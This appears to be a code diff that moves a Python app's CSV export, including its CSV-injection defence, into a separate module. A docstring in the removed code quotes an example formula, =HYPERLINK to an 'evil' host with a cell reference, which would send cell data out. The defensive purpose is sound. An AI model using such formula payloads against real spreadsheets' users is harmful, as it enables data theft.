@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import Any
@@ -29,6 +27,11 @@ from enrichment_app.errors import (
 from enrichment_app.keyring import SecretBox
 from enrichment_app.services.bulk import insert_rows, skip_foreign_key_checks
 from enrichment_app.services.credentials import seal_config
+from enrichment_app.services.csv_export import (  # at home in csv_export; kept importable here
+    FORMULA_TRIGGERS as FORMULA_TRIGGERS,
+    export_csv as export_csv,
+    neutralise_formula as neutralise_formula,
+)
 from enrichment_app.services.values import cap_value, refuse_nul, refuse_nul_in
 
 MAX_NAME_CHARS = 200
@@ -334,47 +337,3 @@ def delete_table(session: Session, *, table_id: int) -> None:
     session.execute(sa.delete(TableRow).where(col(TableRow.table_id) == table_id))
     session.execute(sa.delete(TableColumn).where(col(TableColumn.table_id) == table_id))
     session.execute(sa.delete(DataTable).where(col(DataTable.id) == table_id))
-
-
-# --- CSV export ----------------------------------------------------------------------
-
-
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection page)."""
-
-
-def neutralise_formula(value: str) -> str:
-    """``value`` with a leading ``'`` if a spreadsheet would run it as a formula, so that
-    ``=HYPERLINK("https://evil/?"&A2)`` from a page title shows as text when the file is opened."""
-    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
-
-
-def export_csv(session: Session, *, table_id: int, raw: bool = False) -> str:
-    """The table as CSV text: a header row, then every row's values (enriched ones included).
-
-    By default values that a spreadsheet would run as formulas get a leading ``'``
-    (``neutralise_formula``); ``raw=True`` exports every value as stored, so the file imports
-    back unchanged.
-    """
-    get_table(session=session, table_id=table_id)
-    columns = list_columns(session=session, table_id=table_id)
-    index = {c.id: i for i, c in enumerate(columns)}
-    values: dict[int, list[str]] = {}
-    for row_id, column_id, value in session.exec(
-        select(Cell.row_id, Cell.column_id, Cell.value).where(Cell.table_id == table_id)
-    ).all():
-        values.setdefault(row_id, [""] * len(columns))[index[column_id]] = value or ""
-    out = io.StringIO()
-    minimal = csv.writer(out, lineterminator="\n")
-    quote_all = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
-    # Quoting everything in the few rows that need it keeps the file importable as it is:
-    # the csv module leaves a lone "\r" unquoted (it then reads as a line break), and a
-    # header name holding another delimiter could make the import split the header on it.
-    safe = (lambda v: v) if raw else neutralise_formula
-    header = [safe(c.name) for c in columns]
-    (quote_all if any(ch in n for n in header for ch in ";\t\r") else minimal).writerow(header)
-    for row in list_rows(session=session, table_id=table_id):
-        assert row.id is not None
-        cells = [safe(v) for v in values.get(row.id, [""] * len(columns))]
-        (quote_all if any("\r" in v for v in cells) else minimal).writerow(cells)
-    return out.getvalue()
